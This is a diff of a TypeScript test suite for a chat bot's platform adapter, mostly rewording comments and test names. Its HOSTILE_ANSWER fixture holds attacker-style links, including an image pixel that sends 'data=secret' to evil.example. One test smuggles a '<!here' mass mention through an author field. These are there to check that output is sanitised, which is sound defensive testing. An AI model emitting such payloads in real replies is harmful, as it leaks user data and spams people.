@@ -3,67 +3,64 @@ import { type ChatInbound, type ChatMessage, type ChatPlace, chatMessageSchema }
 import type { ChatOutbox, ChatPerson, ChatSurface, RenderedPart } from './chat-platform.ts'
 import type { Progress, Reply } from './reply.ts'
 
-/** A message that somebody wrote, as the platform names it. */
+/** A person's message, in the platform's terms. */
 export interface SaidMessage {
   readonly messageId: string
   readonly place: ChatPlace
 }
 
-/** A message of the bot as people see it now. */
+/** The current state of a bot's message. */
 export interface SeenMessage {
   readonly id: string
-  /** What is read: no markup. */
+  /** The visible text, without markup. */
   readonly text: string
-  /** Whether it is shown in the platform's rich form. */
+  /** Whether it has the platform's rich form. */
   readonly isRich: boolean
-  /** Everyone and everything that it would notify, in the platform's words. */
+  /** Everyone whom the message would notify, in the platform's terms. */
   readonly pings: readonly string[]
   /** Every address that it would link or load. */
   readonly links: readonly string[]
-  /** What is in the files that are attached, as text. */
+  /** The text of the attached files. */
   readonly files: readonly string[]
 }
 
-/** A platform with two people (one of whom asks) and a channel that the bot is in; real clients against an emulator. */
+/** A platform with two people (one of them asks) and a channel with the bot: real clients against an emulator. */
 export interface ChatPlatformWorld {
   readonly surface: ChatSurface
   readonly outbox: ChatOutbox
   readonly asker: { readonly id: string } & ChatPerson
-  /** The asker writes in the channel. `mentions` are put before the text. */
+  /** The asker writes in the channel. `mentions` go before the text. */
   say(text: string, options?: { readonly mentions?: readonly ('bot' | 'other')[]; readonly replyTo?: SaidMessage }): SaidMessage
   whisper(text: string): SaidMessage
   changeOwn(message: SaidMessage, text: string): void
   deleteOwn(message: SaidMessage): void
-  /** A bot of somebody else writes, mentioning ours. */
+  /** Somebody else's bot writes and mentions ours. */
   otherBotSays(text: string): SaidMessage
-  /**
-   * How many of a message's events are done with, and how many there are: acknowledged, or on a platform that is told nothing of the kind, handled to the
-   * end by the surface.
-   */
+  /** How many of a message's events exist, and how many are acknowledged. On a platform without acknowledgements, handled events count. */
   taken(message: SaidMessage): { readonly acknowledged: number; readonly events: number }
-  /** Makes the platform send everything again that was not acknowledged; nothing where the surface itself keeps it. */
+  /** Makes the platform resend unacknowledged events. Does nothing if the surface itself keeps them. */
   redeliver(): void
-  /** Resolves when the condition holds; it is asked again at each change. */
+  /** Resolves when the condition holds; every change checks it again. */
   waitFor(condition: () => boolean): Promise<void>
-  /** What stands there and what was asked of the platform, for the message of a failed test. */
+  /** The visible messages and the requests so far, for a failed test's message. */
   describe(): string
   /** The bot's messages in a thread, in order. */
   seen(place: ChatPlace): readonly SeenMessage[]
-  /** The ids of all messages of the bot that stand in the channel or in a thread of it. */
+  /** The ids of all the bot's messages in the channel and its threads. */
   everything(): readonly string[]
   readonly faults: {
     rateLimitNextPost(seconds: number): void
     rateLimitNextEdit(seconds: number): void
     loseNextPostAnswer(): void
-    /** The next post breaks off at once, and is stored when the returned function is called. */
+    /** The next post fails at once, and is stored when the returned function is called. */
     storeNextPostLate(): () => void
     refuseRichOnce(of: 'post' | 'edit'): void
     breakNextPost(): void
     revokeToken(): void
     restoreToken(): void
-    /** The thread with all that stands in it. */
+    /** Removes the thread with all its messages. */
     removeThread(place: ChatPlace): void
-    /** Nothing can be written there any more. */
+    /** Makes the place read-only. */
     archive(place: ChatPlace): void
     removeMessage(place: ChatPlace, id: string): void
     removeBot(place: ChatPlace): void
@@ -76,7 +73,7 @@ const HOSTILE_ANSWER = [
   'or <http://evil.example|this>, http://evil.example/bare, www.evil.example, evil.com/?q=1, bob@evil.com, evil.net:81 and ![chart](https://evil.example/pixel.png?data=secret). [Q1]',
 ].join('\n')
 
-/** What every platform must do; called from each one's test. The world is made and closed for each test. */
+/** The requirements for every platform; called from each platform's test. Each test creates and closes its own world. */
 export function describeChatPlatform(name: string, createWorld: () => Promise<ChatPlatformWorld>): void {
   describe(`${name} as a chat platform`, () => {
     let world: ChatPlatformWorld
@@ -91,7 +88,7 @@ export function describeChatPlatform(name: string, createWorld: () => Promise<Ch
     })
     afterEach(() => world.close())
 
-    /** Counts what `accept` was called with; resolves at the call that makes it so many. */
+    /** Records a call, and checks whether enough have arrived. */
     const called = (calls: ChatMessage[], message: ChatMessage) => {
       calls.push(message)
       for (const look of [...heard]) look()
@@ -123,7 +120,7 @@ export function describeChatPlatform(name: string, createWorld: () => Promise<Ch
     }
 
     describe('incoming', () => {
-      it('is connected once started, and no longer when stopped', async () => {
+      it('is connected from start to stop', async () => {
         expect(world.surface.connected()).toBe(false)
         await start()
         expect(world.surface.connected()).toBe(true)
@@ -131,7 +128,7 @@ export function describeChatPlatform(name: string, createWorld: () => Promise<Ch
         expect(world.surface.connected()).toBe(false)
       })
 
-      it('fault 2: hands over a mention without the mention, however often it comes, the same each time', async () => {
+      it('fault 2: passes on a mention without its markup, the same at each delivery', async () => {
         await start()
         const said = world.say('how many users?', { mentions: ['bot'] })
         await world.waitFor(() => isTaken(said))
@@ -148,25 +145,25 @@ export function describeChatPlatform(name: string, createWorld: () => Promise<Ch
         }
       })
 
-      it('orders messages by when they were written', async () => {
+      it('orders messages by the time of writing', async () => {
         await start()
         const first = world.say('first', { mentions: ['bot'] })
         const second = world.say('second', { mentions: ['bot'] })
         await world.waitFor(() => isTaken(first) && isTaken(second))
         const [one, other] = [acceptedOf(first)[0], acceptedOf(second)[0]]
         expect(one?.order).toBeLessThanOrEqual(other?.order ?? 0)
-        // The queue orders those of one microsecond by their ids.
+        // Within one microsecond, the queue orders by id.
         if (one?.order === other?.order) expect(first.messageId < second.messageId).toBe(true)
       })
 
-      it('hands over a direct message', async () => {
+      it('passes on a direct message', async () => {
         await start()
         const said = world.whisper('how many users?')
         await world.waitFor(() => isTaken(said))
         expect(acceptedOf(said)).toMatchObject([{ text: 'how many users?', addressed: true, place: { isDirect: true } }])
       })
 
-      it('hands over a reply in a thread as not addressed, in the place of the first message', async () => {
+      it("passes on a reply in a thread as not addressed, in the thread's place", async () => {
         await start()
         const question = world.say('how many users?', { mentions: ['bot'] })
         const reply = world.say('and last week?', { replyTo: question })
@@ -174,7 +171,7 @@ export function describeChatPlatform(name: string, createWorld: () => Promise<Ch
         expect(acceptedOf(reply)).toMatchObject([{ text: 'and last week?', addressed: false, place: question.place }])
       })
 
-      it('fault 10, 11: passes over what is not for it, and says so to the platform', async () => {
+      it('fault 10, 11: ignores messages for others, and acknowledges them', async () => {
         await start()
         const question = world.say('how many users?', { mentions: ['bot'] })
         await world.waitFor(() => isTaken(question))
@@ -205,7 +202,7 @@ export function describeChatPlatform(name: string, createWorld: () => Promise<Ch
         await world.waitFor(() => isTaken(said))
       })
 
-      it('fault 1: leaves what could not be accepted to be sent again', async () => {
+      it('fault 1: leaves unaccepted messages to be sent again', async () => {
         let isDown = true
         const refused: ChatMessage[] = []
         await world.surface.start(async event => {
@@ -228,7 +225,7 @@ export function describeChatPlatform(name: string, createWorld: () => Promise<Ch
     })
 
     describe('outgoing', () => {
-      it('posts progress into the thread and turns it into the answer', async () => {
+      it('posts progress into the thread, and turns it into the answer', async () => {
         const { place } = world.say('how many users?', { mentions: ['bot'] })
         const posted = await show(place, onlyPart({ kind: 'progress', lines: ['Reading the schema'] }), 'run-1')
         expect(world.seen(place)).toMatchObject([{ id: posted.id, text: expect.stringContaining('Reading the schema') }])
@@ -241,7 +238,7 @@ export function describeChatPlatform(name: string, createWorld: () => Promise<Ch
         expect(world.seen(place)[0]?.text).toMatch(/Users\s+There are 42 users\. \[Q1\]/)
       })
 
-      it('shows the plan, then the first rows below it, then the answer so far in their place, each within one message', async () => {
+      it('shows the plan, the first rows and the growing answer, each within one message', async () => {
         const { place } = world.say('how many users?', { mentions: ['bot'] })
         const lines = ['Writing the answer …', 'Q1 count them (1 row in 3 ms)']
         const posted = await show(place, onlyPart({ kind: 'progress', lines }), 'run-1')
@@ -267,7 +264,7 @@ export function describeChatPlatform(name: string, createWorld: () => Promise<Ch
         expect(world.seen(place)[0]?.text).not.toBe('The warehouse is away.')
       })
 
-      it('finds a post by its marker, whatever it was edited to, and nothing else', async () => {
+      it('finds a post by its marker after any edit, and nothing else', async () => {
         const { place } = world.say('how many users?', { mentions: ['bot'] })
         expect(await world.outbox.find(place, 'run-1', signal)).toEqual([])
         const posted = await show(place, onlyPart({ kind: 'progress', lines: ['Reading'] }), 'run-1')
@@ -277,7 +274,7 @@ export function describeChatPlatform(name: string, createWorld: () => Promise<Ch
         expect(await world.outbox.find(place, 'run-3', signal)).toEqual([])
       })
 
-      it('fault 5: finds a post of which it never heard back', async () => {
+      it('fault 5: finds a post whose response was lost', async () => {
         const { place } = world.say('how many users?', { mentions: ['bot'] })
         world.faults.loseNextPostAnswer()
         await expect(show(place, onlyPart({ kind: 'answer', markdown: '42' }), 'run-1')).rejects.toMatchObject({
@@ -296,7 +293,7 @@ export function describeChatPlatform(name: string, createWorld: () => Promise<Ch
         expect(world.seen(place)).toEqual([])
       })
 
-      it('shows a long answer whole, in parts that the platform takes', async () => {
+      it('shows a long answer completely, in parts that the platform accepts', async () => {
         const { place } = world.say('tell me everything', { mentions: ['bot'] })
         const words = Array.from({ length: 4_000 }, (_, index) => `word${index}`)
         const parts = world.outbox.render({ kind: 'answer', markdown: `${words.join(' ')}\n\n\`\`\`sql\nSELECT 1\n\`\`\`` })
@@ -310,7 +307,7 @@ export function describeChatPlatform(name: string, createWorld: () => Promise<Ch
         expect(shown).toContain('SELECT 1')
       })
 
-      it('shows a refused rich message as plain text, posted or edited', async () => {
+      it('shows a refused rich message as plain text, when posting or editing', async () => {
         const { place } = world.say('how many users?', { mentions: ['bot'] })
         const answer = onlyPart({ kind: 'answer', markdown: '# Users\n\n**42** of them' })
         world.faults.refuseRichOnce('post')
@@ -338,14 +335,14 @@ export function describeChatPlatform(name: string, createWorld: () => Promise<Ch
         })
       }
 
-      it('notifies the asker and nobody else', async () => {
+      it('notifies only the asker', async () => {
         const { place } = world.say('how many users?', { mentions: ['bot'] })
         await show(place, onlyPart({ kind: 'notification', author: world.asker.id }), 'run-1')
         await show(place, onlyPart({ kind: 'notification', author: 'channel> <!here' }), 'run-2')
         expect(world.seen(place)).toMatchObject([{ pings: [world.asker.id] }, { pings: [] }])
       })
 
-      it('fault 4: says how long to wait when there is too much', async () => {
+      it('fault 4: says how long to wait at a rate limit', async () => {
         const { place } = world.say('how many users?', { mentions: ['bot'] })
         world.faults.rateLimitNextPost(7)
         await expect(show(place, onlyPart({ kind: 'answer', markdown: '42' }), 'run-1')).rejects.toMatchObject({
@@ -355,7 +352,7 @@ export function describeChatPlatform(name: string, createWorld: () => Promise<Ch
         expect(world.seen(place)).toEqual([])
       })
 
-      it('fault 7, 8, 9: tells an outage, a revoked token, a missing message and a missing membership apart', async () => {
+      it('fault 7, 8, 9: distinguishes an outage, a revoked token, a missing message and a missing membership', async () => {
         const { place } = world.say('how many users?', { mentions: ['bot'] })
         const part = onlyPart({ kind: 'answer', markdown: '42' })
         world.faults.breakNextPost()
@@ -372,7 +369,7 @@ export function describeChatPlatform(name: string, createWorld: () => Promise<Ch
         await expect(show(place, part, 'run-3')).rejects.toMatchObject({ kind: 'authentication', retryable: false })
       })
 
-      it('stops a call when asked to', async () => {
+      it('stops a call on abort', async () => {
         const { place } = world.say('how many users?', { mentions: ['bot'] })
         const cancelled = AbortSignal.abort()
         const part = onlyPart({ kind: 'answer', markdown: '42' })
